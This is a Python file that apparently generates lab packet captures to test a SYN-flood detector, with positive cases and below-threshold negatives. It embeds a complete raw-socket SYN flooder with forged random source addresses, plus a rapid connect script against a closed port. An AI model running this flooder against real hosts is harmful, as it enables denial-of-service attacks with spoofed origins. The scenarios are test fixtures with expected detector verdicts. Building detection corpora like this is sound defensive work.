"""Captures of floods of SYNs, and of what only looks like one."""
import gzip
import time

from net import sh
from play import scenario

FLOOD = """
import random, socket, struct, sys, time
target, rate, seconds, forged = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4] == "forged"
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
choose, there = random.Random(7), socket.inet_aton(target)
begin, sent = time.monotonic(), 0
while (now := time.monotonic() - begin) < seconds:
    while sent < now * rate:
        here = bytes([198, 18 + choose.randrange(2), choose.randrange(256), choose.randrange(1, 255)]) if forged else socket.inet_aton("198.51.100.9")
        tcp = struct.pack("!HHIIBBHHH", choose.randrange(1024, 65536), 443, choose.randrange(1 << 32), 0, 0x50, 2, 512, 0, 0)
        tcp = tcp[:16] + struct.pack("!H", checksum(here + there + struct.pack("!BBH", 0, 6, 20) + tcp)) + tcp[18:]
        head = struct.pack("!BBHHHBBH", 0x45, 0, 40, choose.randrange(1 << 16), 0, choose.choice([64, 128]) - choose.randrange(16) if forged else 64, 6, 0) + here + there
        one.sendto(head + tcp, (target, 0))
        sent += 1
    time.sleep(0.002)
"""
TOOL = "a SYN flooder by a raw socket, as hping3 --rand-source sends them; Linux with SYN cookies answers"


def flood(rate, seconds, forged=True, at="s"):
    def play(lab):
        sh(f"ip -n {lab.ns('g')} route add blackhole default")
        lab.ctl("s", ipv4_tcp_synack_retries=0)
        if not forged:      # the sender's own stack would reset what it did not ask for
            lab.nft("f", "input", "drop")
        lab.listen("s", 443)
        path = lab.capture(at)
        lab.run("f", ["python3", "-c", FLOOD, lab.ip("s"), rate, seconds, "forged" if forged else "own"])
        time.sleep(1)
        lab.connect("c", "s", 443).close()
        lab.stop(0.5)
        packed = lab.dir / "packed.pcap.gz"
        packed.write_bytes(gzip.compress(path.read_bytes(), 9, mtime=0))
        return packed
    return play


HOSTS = "c=lan.15 s=dc.20 f=dns.9"
SYN = "tcp.flags.syn==1 && tcp.flags.ack==0"
scenario("transport/syn-flood/forged-sources.pcap.gz", "`transport.syn-flood` — 210 a second over five and a half seconds, none completed", f"captured at the server: SYNs of random addresses [[{SYN}]]", SYN, TOOL, hosts=HOSTS)(flood(210, 5.6))
scenario("transport/syn-flood/one-source.pcap.gz", "`transport.syn-flood` — 215 a second over five and a half seconds, none completed", f"captured at the server: SYNs of one address that never goes on [[{SYN}]]", SYN, TOOL, hosts=HOSTS)(flood(215, 5.5, False))
scenario("transport/syn-flood/not-two-seconds.pcap.gz", "silent — shorter than five seconds", "the same for two seconds", SYN, TOOL, hosts=HOSTS)(flood(250, 2))
scenario("transport/syn-flood/not-ninety-a-second.pcap.gz", "silent — below 200 a second", "the same with 90 a second for six seconds", SYN, TOOL, hosts=HOSTS)(flood(90, 6))

ASK = """
import selectors, socket, sys, time
target, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
begin, sent, waiting = time.monotonic(), 0, selectors.DefaultSelector()
while (now := time.monotonic() - begin) < seconds or waiting.get_map():
    while sent < now * rate and now < seconds:
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((target, 443))
        waiting.register(one, selectors.EVENT_WRITE)
        sent += 1
    for key, _ in waiting.select(0.002):
        waiting.unregister(key.fileobj)
        key.fileobj.close()
"""


@scenario("transport/syn-flood/not-refused-at-once.pcap.gz", "`transport.syn-refused`, `application.retry-storm` — each is answered by a RST, which keeps nothing open at the server",
          f"captured at the server: a client without any pause asks a closed port 220 times a second for six seconds [[{SYN}]]", SYN, hosts="c=lan.15 s=dc.20")
def refused(lab):
    path = lab.capture("s")
    lab.run("c", ["python3", "-c", ASK, lab.ip("s"), 220, 6])
    lab.stop(0.5)
    packed = lab.dir / "packed.pcap.gz"
    packed.write_bytes(gzip.compress(path.read_bytes(), 9, mtime=0))
    return packed
